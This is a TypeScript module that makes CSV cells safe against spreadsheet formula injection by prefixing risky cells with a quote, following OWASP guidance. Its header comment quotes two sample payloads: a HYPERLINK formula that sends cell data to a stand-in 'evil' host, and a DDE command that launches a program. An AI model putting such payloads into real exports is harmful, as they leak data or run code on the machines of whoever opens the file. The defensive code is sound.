/**
 * CSV cells. Cells hold server text (summaries, names) that whoever can edit the site wrote, and
 * CSV files are opened in spreadsheets, which run a cell beginning with `=`, `+`, `-` or `@` (or a
 * tab or carriage return before one) as a formula: `=HYPERLINK("http://evil/?"&A1)` sends data
 * away, `=cmd|' /C calc'!A0` starts a program. As OWASP's "CSV Injection" page recommends, such a
 * cell gets a leading single quote, which spreadsheets take as "this is text", and then every cell
 * is quoted per RFC 4180 where needed (so a comma or quote cannot start a new cell whose first
 * character is one of those). `--csv-raw` turns the quote prefix off for exact data.
 *
 * One exception, a judgement call: a cell that is only a number (`-5`, `+3`, `-0.25`, `-1e-7`) is
 * left alone. A spreadsheet reads it as that number, which calls nothing, and a prefix would turn a
 * numeric column (story points, a number custom field) into text that no longer sums.
 */
import { sanitizeText } from './terminal.js';

export interface CsvCellOptions {
  /** `--csv-raw`: no formula neutralisation, the server's text exactly. */
  raw?: boolean;
  /** stdout is a terminal: control characters are shown as escapes, as in tables. */
  terminal?: boolean;
}

/** Characters that make a spreadsheet read a cell as a formula when they come first (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

/** `text` with a leading `'` when a spreadsheet would otherwise run it as a formula. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** One CSV cell: neutralised (unless raw), filtered for a terminal, then quoted per RFC 4180 when needed. */
export function csvCell(text: string, options: CsvCellOptions = {}): string {
  let cell = options.raw === true ? text : neutraliseFormula(text);
  if (options.terminal === true) cell = sanitizeText(cell);
  return /[",\r\n]/.test(cell) || /^\s|\s$/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
}
